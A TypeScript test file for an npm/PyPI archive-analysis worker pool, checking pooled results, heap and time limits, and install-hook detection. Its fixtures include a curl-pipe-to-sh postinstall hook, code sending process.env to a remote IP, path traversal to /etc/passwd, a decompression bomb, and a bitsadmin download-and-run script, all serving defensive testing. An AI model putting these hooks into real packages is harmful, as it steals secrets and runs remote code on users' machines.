import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { analyzeArchive, type AnalyzeOptions, type ArchiveAnalysis } from '../../shared/packages/analysis/index.js';
import { AnalysisAbortedError, AnalysisPool, AnalysisTimeoutError, analyzeOffThread } from '../../shared/packages/analysis/pool.js';
import { buildTgz, npmTgz, tgzZeroBomb } from '../fixtures/archives/build.js';
import { unfinishedAnalysis } from '../../shared/packages/audit.js';
import { packageVerdict, reviewPackage } from '../../shared/packages/lens/index.js';
import { buildZip } from '../support/zip-writer.js';
import { useConfiguredIndexHosts } from '../../shared/sandbox/reputation.js';

const PKG = JSON.stringify({ name: 'demo', version: '1.0.0', scripts: { postinstall: 'curl -s https://x.example/i.sh | sh' } });
const tgz = (opts: Partial<AnalyzeOptions> = {}): AnalyzeOptions => ({ kind: 'tgz', registry: 'npm', ...opts });

async function samples(): Promise<[string, Buffer, AnalyzeOptions][]> {
  return [
    ['benign', npmTgz({ 'package.json': JSON.stringify({ name: 'ok', version: '1.0.0' }), 'index.js': 'module.exports = (a, b) => a + b;\n' }), tgz()],
    ['malicious', npmTgz({ 'package.json': PKG, 'index.js': 'fetch("http://203.0.113.9/" + JSON.stringify(process.env));\n' }), tgz()],
    ['traversal', buildTgz([{ path: '../../etc/passwd', data: 'x' }, { path: 'package/index.js', data: '1' }]), tgz()],
    ['bomb', await tgzZeroBomb(64), tgz()],
    ['corrupt', Buffer.from('not a gzip stream at all'), tgz()],
    ['wheel', buildZip([{ name: 'demo/__init__.py', data: Buffer.from('import os\nos.system("id")\n') }]), { kind: 'zip', registry: 'pypi' }],
  ];
}

test('the pool gives exactly the in-process analysis, for benign, malicious and hostile archives', async () => {
  const pool = new AnalysisPool({ threads: 2, heapMb: 256 });
  try {
    for (const [name, buf, opts] of await samples()) {
      assert.equal(await pool.analyze(buf, opts), await analyzeArchive(buf, opts), name);
    }
  } finally {
    await pool.close();
  }
});

test('parallel analyses come back to their own callers; a Buffer view of a larger allocation is read as the view', async () => {
  const pool = new AnalysisPool({ threads: 2, heapMb: 256 });
  try {
    const inputs = Array.from({ length: 12 }, (_, i) => npmTgz({ 'package.json': JSON.stringify({ name: `p${i}`, version: '1.0.0' }), [`f${i}.js`]: `module.exports = ${i};\n`.repeat(i + 1) }));
    const expected = await Promise.all(inputs.map((b) => analyzeArchive(b, tgz())));
    const got = await Promise.all(inputs.map((b) => pool.analyze(b, tgz())));
    got.forEach((a, i) => assert.is(a.fileSetHash, expected[i]!.fileSetHash, `input ${i}`));
    assert.ok(pool.size <= 2, `at most 2 threads, saw ${pool.size}`);

    const inner = inputs[3]!;
    const big = Buffer.concat([Buffer.from('garbage before'), inner, Buffer.from('garbage after')]);
    const view = big.subarray('garbage before'.length, 'garbage before'.length + inner.length);
    assert.is((await pool.analyze(view, tgz())).fileSetHash, expected[3]!.fileSetHash);
    assert.is(view.length, inner.length, 'the caller keeps its buffer (a copy is transferred)');
  } finally {
    await pool.close();
  }
});

test('an archive that exceeds the thread heap cap is AnalysisAbortedError, and the pool goes on with a new thread', async () => {
  const pool = new AnalysisPool({ threads: 1, heapMb: 16 });
  try {
    // 19,000 files with long paths, each with a finding: more than a 16 MB heap holds (lists, hashes, findings).
    const entries = Array.from({ length: 19_000 }, (_, i) => ({ path: `package/${'d'.repeat(90)}/${'e'.repeat(90)}/${i}-${'f'.repeat(60)}.js`, data: `eval(atob("${i}"))\n` }));
    try {
      await pool.analyze(buildTgz(entries), tgz());
      assert.unreachable('a 16 MB heap cannot hold this analysis');
    } catch (err) {
      assert.instance(err, AnalysisAbortedError);
      assert.match((err as Error).message, /memory/i);
    }
    const small = npmTgz({ 'package.json': JSON.stringify({ name: 'ok', version: '1.0.0' }), 'i.js': '1\n' });
    assert.equal(await pool.analyze(small, tgz()), await analyzeArchive(small, tgz()));
  } finally {
    await pool.close();
  }
});

test('an archive past its time budget is AnalysisTimeoutError (an AnalysisAbortedError: recorded PARTIAL), and the pool goes on with a new thread', async () => {
  const pool = new AnalysisPool({ threads: 1, heapMb: 256, budgetMs: 5 });
  try {
    // 64 MiB of zeros to inflate and hash: far more than 5 ms on any machine.
    try {
      await pool.analyze(await tgzZeroBomb(64), tgz());
      assert.unreachable('5 ms cannot read 64 MiB');
    } catch (err) {
      assert.instance(err, AnalysisTimeoutError);
      assert.instance(err, AnalysisAbortedError);
      assert.is((err as AnalysisTimeoutError).budgetMs, 5);
      // What the audit records: PARTIAL, nothing counted as analysed, the finding says why.
      const a = unfinishedAnalysis('demo-1.0.0.tgz', err as AnalysisTimeoutError, 256);
      assert.is(a.analysisType, 'PARTIAL');
      assert.is(a.fileCount, 0);
      assert.equal(a.limitsHit, ['analysisTime']);
      assert.equal(a.findings.map((f) => [f.ruleId, f.severity, f.file]), [['LIMIT-TIME-001', 'MEDIUM', 'demo-1.0.0.tgz']]);
      assert.match(a.findings[0]!.message, /cut off at its 5 ms time budget/);
      const verdict = packageVerdict(
        reviewPackage({ registry: 'npm', name: 'demo', version: '1.0.0', analysis: a, integrity: { ok: true, expected: 'sha512:x', actual: 'sha512:x' }, advisories: { status: 'ok', advisories: [] } }),
      );
      assert.is.not(verdict.securityLevel, 'CLEAR', 'an unread archive is never CLEAR');
    }
    assert.is(pool.timeouts, 1);
    const [, buf, opts] = (await samples())[1]!;
    assert.equal(await pool.analyze(buf, opts, 0), await analyzeArchive(buf, opts), 'the next archive, without a budget, is analysed in full');
    assert.is(pool.size, 1);
  } finally {
    await pool.close();
  }
});

test('close() rejects what is still queued with a plain error (retried, not recorded as an aborted analysis)', async () => {
  const pool = new AnalysisPool({ threads: 1, heapMb: 256 });
  const big = await tgzZeroBomb(8);
  const runs = [pool.analyze(big, tgz()), pool.analyze(big, tgz()), pool.analyze(big, tgz())].map((p) => p.then(() => 'done', (e: Error) => e));
  await pool.close();
  const outcomes = await Promise.all(runs);
  assert.ok(outcomes.some((o) => o instanceof Error), 'queued work is rejected');
  for (const o of outcomes) if (o instanceof Error) assert.not.instance(o, AnalysisAbortedError);
  try {
    await pool.analyze(big, tgz());
    assert.unreachable('closed');
  } catch (err) {
    assert.match((err as Error).message, /closed/);
  }
});

/** An install hook that downloads a program and runs it: from a configured package index a known host, elsewhere a foreign one. */
const MIRROR = 'pkgs.corp-mirror.example';
const installFromMirror = npmTgz({
  'package.json': JSON.stringify({ name: 'embed-tool', version: '1.0.0', scripts: { install: 'install.bat' } }),
  'install.bat': `@echo off\nbitsadmin /transfer u https://${MIRROR}/tools/setup.exe %TEMP%\\setup.exe\n%TEMP%\\setup.exe /quiet\n`,
});
const hookRules = (a: ArchiveAnalysis) => a.findings.filter((f) => f.category === 'install_script').map((f) => `${f.ruleId}:${f.severity}`);

test('a configured package index reaches the analysis threads (as workerData), at a 16 MB heap cap too', async () => {
  for (const heapMb of [256, 16]) {
    const plain = new AnalysisPool({ threads: 1, heapMb });
    const configured = new AnalysisPool({ threads: 1, heapMb, packageIndexHosts: [MIRROR] });
    try {
      assert.equal(hookRules(await plain.analyze(installFromMirror, tgz())), ['install_script_remote:CRITICAL'], `${heapMb} MB, not configured: a foreign host`);
      assert.equal(hookRules(await configured.analyze(installFromMirror, tgz())), ['install_script_runs_download:MEDIUM'], `${heapMb} MB, configured: a known index`);
    } finally {
      await Promise.all([plain.close(), configured.close()]);
    }
  }
  // The audit's way in (its options from config()): the shared pool and the calling thread agree.
  const threaded = await analyzeOffThread(installFromMirror, tgz(), { threads: 1, heapMb: 64, packageIndexHosts: [MIRROR] });
  const direct = await analyzeOffThread(installFromMirror, tgz(), { threads: 0, heapMb: 64, packageIndexHosts: [MIRROR] });
  assert.equal(hookRules(threaded), ['install_script_runs_download:MEDIUM']);
  assert.equal(threaded, direct);
  assert.equal(hookRules(await analyzeOffThread(installFromMirror, tgz(), { threads: 1, heapMb: 64 })), ['install_script_remote:CRITICAL'], 'the settings changed: a new pool, not a thread with the old ones');
  useConfiguredIndexHosts([]); // this thread's, set by the direct analysis above
});

test('analyzeOffThread: 0 threads analyses on the calling thread, 1 in the shared pool, same result', async () => {
  const [, buf, opts] = (await samples())[1]!;
  const direct = await analyzeOffThread(buf, opts, { threads: 0, heapMb: 256 });
  const threaded = await analyzeOffThread(buf, opts, { threads: 1, heapMb: 256 });
  assert.equal(threaded, direct);
  assert.ok(direct.findings.some((f) => f.severity === 'CRITICAL'), 'the malicious sample is caught either way');
});

test.run();
